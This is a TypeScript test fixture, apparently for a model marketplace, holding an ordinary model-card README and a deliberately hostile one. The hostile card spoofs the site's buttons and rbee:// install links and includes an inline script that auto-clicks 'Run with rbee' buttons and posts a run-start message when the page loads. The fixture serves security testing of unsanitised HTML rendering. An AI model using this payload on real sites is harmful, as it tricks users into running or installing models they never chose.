import type { Model } from './data.ts';

/** A typical model card. */
export const plainReadme = (model: Model): string => `<h2>${model.name}</h2>
<p>${model.name} is a <a href="https://huggingface.co/docs">text generation model</a> with ${model.size} parameters. This card says how it was made and what it is for.</p>
<h3>How to use it</h3>
<pre><code>pipe = pipeline("text-generation", model="${model.id}")</code></pre>
<ul><li>Context: 4,096 tokens</li><li>License: ${model.license}</li></ul>
<p>Also see <a href="https://huggingface.co/models">the other sizes</a>.</p>`;

/**
 * A card that imitates all markup and labels that any generation of the site used for actions and ids, and clicks buttons.
 * The marketplace shows such HTML unsanitised (rbee-keeper/rbee commit 0509312f, 2025-11-14).
 */
export const hostileReadme = `<h1 class="text-3xl font-bold tracking-tight mb-2">evil/model</h1>
<p class="text-lg text-muted-foreground">by <span class="font-semibold">evil</span></p>
<div class="space-y-4">
<a data-slot="button" class="w-full" href="https://huggingface.co/evil/model" target="_blank" rel="noopener noreferrer">View on HuggingFace</a>
<a data-slot="button" class="w-full" href="https://civitai.com/models/666" target="_blank" rel="noopener noreferrer">View on CivitAI</a>
</div>
<div data-slot="card"><h3 data-slot="card-title">Basic Information</h3>
<div data-slot="card-content" class="p-6 pt-0 space-y-4"><div class="space-y-1">
<div class="flex items-center gap-2"><p class="text-sm font-medium text-muted-foreground">Model ID</p></div>
<code class="block text-sm bg-muted px-3 py-2 rounded font-mono break-all">evil/model</code>
</div></div></div>
<div class="rounded-lg border border-border bg-card p-6"><div class="flex items-center justify-between">
<div class="space-y-1"><h3 class="text-lg font-semibold">One-Click Installation</h3><p>Install and run this model with rbee Keeper</p></div>
<button class="inline-flex items-center justify-center rounded-md bg-primary px-6 py-3 text-sm font-medium text-primary-foreground">Run with rbee</button>
</div></div>
<div class="rounded-lg border border-border bg-card p-6"><div class="flex items-center justify-between">
<div class="space-y-1"><h3 class="text-lg font-semibold">Install Worker</h3><p>One-click installation with rbee Keeper</p></div>
<a href="rbee://worker/evil-worker" class="inline-flex rounded-md bg-primary px-6 py-3">Install with rbee</a>
</div></div>
<button disabled>Checking...</button>
<a href="https://github.com/veighnsche/llama-orch/releases">Download Keeper</a>
<button data-slot="button">Open in rbee App</button>
<button data-slot="button" class="w-full" disabled>Install Worker</button>
<a href="rbee://model?id=evil/model">Run with rbee</a>
<a href="rbee://install/model?id=evil/model">Install</a>
<a class="block h-full" href="/models/huggingface/evil%2Fmodel"><div data-slot="card" class="group relative overflow-hidden h-full cursor-pointer"><div class="p-4 space-y-3"><h3 class="text-sm font-medium leading-tight truncate"><span>evil</span><span>/</span><span class="font-semibold">model</span></h3></div></div></a>
<a class="block" href="/workers/evil-worker"><div class="border border-border rounded-lg overflow-hidden"><h3 class="font-bold text-lg truncate">Evil worker</h3></div></a>
<div data-slot="table-container"><table data-slot="table"><tbody><tr data-slot="table-row" class="cursor-pointer"><td><div class="font-semibold text-foreground truncate">model</div></td><td><span class="block">evil</span></td></tr></tbody></table></div>
<rbee-run data-subject="hf:evil/model" data-state="idle"><button>Run with rbee</button></rbee-run>
<script>(() => {
  let rounds = 0;
  const timer = setInterval(() => {
    for (const ours of document.querySelectorAll('rbee-run')) {
      for (const button of [...ours.querySelectorAll('button'), ...(ours.shadowRoot?.querySelectorAll('button') ?? [])]) {
        button.click();
        button.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true, cancelable: true }));
        button.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
      }
    }
    window.postMessage({ type: 'run/start', subject: 'hf:evil/model' }, '*');
    if (++rounds === 20) clearInterval(timer);
  }, 100);
})();</script>`;
